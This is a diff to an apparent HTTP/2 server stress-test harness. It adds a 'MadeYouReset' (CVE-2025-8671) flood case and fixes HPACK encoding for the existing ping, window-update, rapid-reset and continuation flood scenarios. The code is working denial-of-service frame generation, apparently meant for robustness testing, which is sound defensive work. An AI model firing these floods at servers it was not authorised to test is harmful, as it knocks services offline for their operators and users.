@@ -369,7 +369,9 @@ def scenario_flood(port, tls, kind, count="100000"):
     batch = []
     pending = b""
     goaway, closed = None, False
-    head = enc.encode(request_headers("/flood"))
+    # One HPACK encoder, and every block it makes is sent, in order: the
+    # server's decoder must see the same dynamic table.
+    head = lambda: enc.encode(request_headers("/flood"))  # noqa: E731
     for i in range(count):
         if kind == "ping":
             f = [PingFrame(0, opaque_data=b"12345678")]
@@ -381,14 +383,21 @@ def scenario_flood(port, tls, kind, count="100000"):
         elif kind == "window_update":
             f = [WindowUpdateFrame(0, window_increment=1)]
         elif kind == "stream_window_update":
-            f = [WindowUpdateFrame(1, window_increment=1)] if i else [HeadersFrame(1, data=head, flags=["END_HEADERS"])]
+            f = [WindowUpdateFrame(1, window_increment=1)] if i else [HeadersFrame(1, data=head(), flags=["END_HEADERS"])]
         elif kind == "empty_data":
-            f = [DataFrame(1, data=b"")] if i else [HeadersFrame(1, data=head, flags=["END_HEADERS"])]
+            f = [DataFrame(1, data=b"")] if i else [HeadersFrame(1, data=head(), flags=["END_HEADERS"])]
         elif kind == "rapid_reset":
             f = [HeadersFrame(sid, data=enc.encode(request_headers("/flood")), flags=["END_HEADERS", "END_STREAM"]), RstStreamFrame(sid, error_code=8)]
             sid += 2
+        elif kind == "made_you_reset":
+            # MadeYouReset (CVE-2025-8671): a frame that makes the server
+            # reset the stream itself (a WINDOW_UPDATE that overflows the
+            # stream's window is a stream error, RFC 9113 §6.9.1), stream
+            # after stream.
+            f = [HeadersFrame(sid, data=enc.encode(request_headers("/flood")), flags=["END_HEADERS", "END_STREAM"]), WindowUpdateFrame(sid, window_increment=0x7FFFFFFF)]
+            sid += 2
         elif kind == "continuation":
-            f = [ContinuationFrame(1, data=b"\x00\x01a\x01b")] if i else [HeadersFrame(1, data=head)]
+            f = [ContinuationFrame(1, data=b"\x00\x01a\x01b")] if i else [HeadersFrame(1, data=head())]
         else:
             raise SystemExit("unknown flood " + kind)
         batch.extend(x.serialize() for x in f)
